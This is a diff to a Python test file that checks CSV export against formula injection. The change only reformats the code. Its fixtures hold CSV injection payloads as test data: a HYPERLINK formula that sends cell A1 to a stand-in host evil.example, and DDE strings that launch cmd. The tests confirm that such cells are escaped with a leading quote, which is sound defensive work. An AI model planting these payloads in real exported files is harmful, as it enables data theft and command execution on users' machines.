@@ -1,5 +1,6 @@
 """CSV safety (issue 11, observation 2): a text cell a spreadsheet would evaluate is written with
 a single quote in front, the rest kept; numbers are never touched; Parquet keeps the original."""
+
 from __future__ import annotations
 
 import csv
@@ -22,19 +23,21 @@ def _rows(text: str) -> list[list[str]]:
 
 
 def test_the_payloads_of_the_issue_by_hand(tmp_path):
-    table = pa.table({
-        "description": ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "Pôle de l'aéronautique"],
-        "address": ["+cmd|' /C calc'!A0", "12 rue de la République"],
-        "company": ["@SUM(1+1)*cmd|' /C calc'!A0", "-"],
-        "contact_phone": ["+33536491010", None],
-        "themes": pa.array([["=1+1", "Spatial"], ["Aéronautique"]], pa.list_(pa.string())),
-        "n": pa.array([-5, 3], pa.int64()),
-        "score": pa.array([-0.5, 0.25], pa.float64()),
-    })
+    table = pa.table(
+        {
+            "description": ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "Pôle de l'aéronautique"],
+            "address": ["+cmd|' /C calc'!A0", "12 rue de la République"],
+            "company": ["@SUM(1+1)*cmd|' /C calc'!A0", "-"],
+            "contact_phone": ["+33536491010", None],
+            "themes": pa.array([["=1+1", "Spatial"], ["Aéronautique"]], pa.list_(pa.string())),
+            "n": pa.array([-5, 3], pa.int64()),
+            "score": pa.array([-0.5, 0.25], pa.float64()),
+        }
+    )
     write_csv(table, tmp_path / "t.csv")
     raw = (tmp_path / "t.csv").read_bytes()
     assert raw.startswith(BOM)
-    assert raw[len(BOM):].decode("utf-8") == (
+    assert raw[len(BOM) :].decode("utf-8") == (
         "description,address,company,contact_phone,themes,n,score\n"
         '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")",\'+cmd|\' /C calc\'!A0,'
         "'@SUM(1+1)*cmd|' /C calc'!A0,'+33536491010,'=1+1;Spatial,-5,-0.5\n"
@@ -50,9 +53,9 @@ no_cr = st.one_of(formula_cells, safe_cells, st.none()).filter(lambda c: c is No
 
 
 @HYPO
-@given(st.lists(no_cr, min_size=1, max_size=20), st.lists(st.integers(-10**6, 10**6), min_size=20, max_size=20))
+@given(st.lists(no_cr, min_size=1, max_size=20), st.lists(st.integers(-(10**6), 10**6), min_size=20, max_size=20))
 def test_no_cell_starts_a_formula_and_the_text_comes_back(cells, numbers):
-    numbers = numbers[:len(cells)]
+    numbers = numbers[: len(cells)]
     table = pa.table({"s": pa.array(cells, pa.string()), "n": pa.array(numbers, pa.int64())})
     text = csv_text(table)
     assert text == csv_text_python(table)  # the Arrow path and the reference writer agree
